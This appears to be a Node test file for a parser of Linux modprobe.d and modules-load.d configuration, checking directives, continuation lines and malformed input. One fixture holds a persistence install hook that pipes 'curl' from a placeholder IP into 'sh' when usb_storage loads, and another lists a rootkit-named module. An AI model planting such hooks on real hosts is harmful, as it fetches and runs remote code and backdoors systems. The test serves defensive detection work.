import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { parseModprobeConf, parseModulesLoad } from '../../src/host/modprobe-conf.js';

test('modprobe.d: an install hook running a shell command, continuation lines, blacklist, options, alias', () => {
  const text = [
    '# persistence via module load',
    'install usb_storage /bin/sh -c "curl -s http://203.0.113.9/x | sh"; \\',
    '  /sbin/modprobe --ignore-install usb_storage',
    'blacklist pcspkr\r',
    'options bonding max_bonds=0',
    'alias net-pf-31 bluetooth',
    'softdep nvidia pre: i2c_core',
    'remove dummy /bin/true',
    'frobnicate everything',
  ].join('\n');
  const { directives, bad } = parseModprobeConf(text);
  assert.deepEqual(bad, [9]);
  const install = directives[0]!;
  assert.equal(install.directive, 'install');
  assert.equal(install.module, 'usb_storage');
  assert.equal(install.line, 2);
  assert.equal(install.args, '/bin/sh -c "curl -s http://203.0.113.9/x | sh";   /sbin/modprobe --ignore-install usb_storage');
  assert.ok(install.raw.includes('\n'), 'raw keeps the continuation as written');
  assert.deepEqual(
    directives.slice(1).map((d) => [d.line, d.directive, d.module, d.args]),
    [
      [4, 'blacklist', 'pcspkr', ''],
      [5, 'options', 'bonding', 'max_bonds=0'],
      [6, 'alias', 'net-pf-31', 'bluetooth'],
      [7, 'softdep', 'nvidia', 'pre: i2c_core'],
      [8, 'remove', 'dummy', '/bin/true'],
    ],
  );
});

test('modules-load.d and /etc/modules', () => {
  assert.deepEqual(parseModulesLoad('# comment\n; also comment\nloop\n\ndiamorphine\r\nlp io=0x378\n'), [
    { line: 3, module: 'loop', args: '' },
    { line: 5, module: 'diamorphine', args: '' },
    { line: 6, module: 'lp', args: 'io=0x378' },
  ]);
});

test('property: any text parses without throwing', () => {
  fc.assert(
    fc.property(fc.array(fc.oneof(fc.string(), fc.constantFrom('install a b \\', 'options x y', '\\')), { maxLength: 10 }), (lines) => {
      const text = lines.join('\n');
      const { directives, bad } = parseModprobeConf(text);
      const total = text.split('\n').length;
      for (const d of directives) assert.ok(d.line >= 1 && d.line <= total);
      for (const b of bad) assert.ok(b >= 1 && b <= total);
      parseModulesLoad(text);
    }),
  );
});
